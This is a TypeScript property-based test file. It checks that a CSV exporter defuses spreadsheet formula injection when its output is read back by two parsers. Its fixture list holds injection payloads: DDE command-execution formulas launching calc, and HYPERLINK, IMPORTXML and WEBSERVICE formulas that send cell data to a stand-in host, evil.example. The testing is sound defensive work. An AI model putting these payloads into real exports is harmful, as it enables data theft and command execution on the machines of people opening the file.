import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { naughty, naughtyText, tries } from '../../core/testing/fuzz.fixture.ts';
import { csvFile } from './csv.ts';

/** Formula prefixes of spreadsheets, full-width forms included. */
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;

const formulas = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '+1+cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '",=1+1',
  '";=1+1',
  '"\r\n=1+1,"',
  'rope\n=1+1',
  'rope\r=1+1',
  'rope\u2028=1+1',
  'rope;=1+1',
  'rope; "=1+1"',
  '";=1+1;"',
  'rope;',
  ';"',
];

const cell = fc.oneof(naughtyText, fc.constantFrom(...formulas, ...naughty));
const rows = fc.array(fc.array(cell, { minLength: 5, maxLength: 5 }), { maxLength: 20 });

async function* inPieces(all: readonly (readonly string[])[]) {
  for (let from = 0; from < all.length; from += 3) yield all.slice(from, from + 3);
}

async function written(all: readonly (readonly string[])[]): Promise<string> {
  const file = await csvFile('x.csv', ['a', 'b', 'c', 'd', 'e'], inPieces(all));
  // As the file is opened: `text()` removes the mark.
  return file.text();
}

/** Programs that expect another separator read past the end of a quoted cell. */
const parsers: Record<string, (text: string, delimiter: string) => string[][]> = {
  'csv-parse': (text, delimiter) => {
    const relaxed = delimiter !== ',';
    return parse(text, { delimiter, relax_quotes: relaxed, relax_column_count: relaxed });
  },
  papaparse: (text, delimiter) => {
    const { data } = Papa.parse<string[]>(text.replace(/\r\n$/, ''), { delimiter });
    return data;
  },
};

/** UTF-8 replaces lone surrogates. */
const asWritten = (text: string) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(new TextEncoder().encode(text));

const onOneLine = (text: string) =>
  asWritten(text)
    .replace(/[\p{Cc}\u2028\u2029]+/gu, ' ')
    .trim();
const withoutApostrophes = (text: string) => text.replaceAll("'", '');

test.each(Object.entries(parsers))(
  'exported cells are read back on one line by %s, and none is a formula',
  async (_name, read) => {
    const property = fc.asyncProperty(rows, async (all) => {
      const [, ...back] = read(await written(all), ',');
      expect(back.map((row) => row.map(withoutApostrophes))).toEqual(
        all.map((row) => row.map((text) => withoutApostrophes(onOneLine(text)))),
      );
      for (const found of back.flat()) expect(found).not.toMatch(FORMULA);
    });
    await fc.assert(property, tries(100));
  },
);

test.each(Object.entries(parsers))(
  'no row and no formula begins within a cell where %s expects semicolons',
  async (_name, read) => {
    const property = fc.asyncProperty(rows, async (all) => {
      const [, ...back] = read(await written(all), ';');
      expect(back.length).toBeLessThanOrEqual(all.length);
      for (const found of back.flat()) expect(found).not.toMatch(FORMULA);
    });
    await fc.assert(property, tries(100));
  },
);
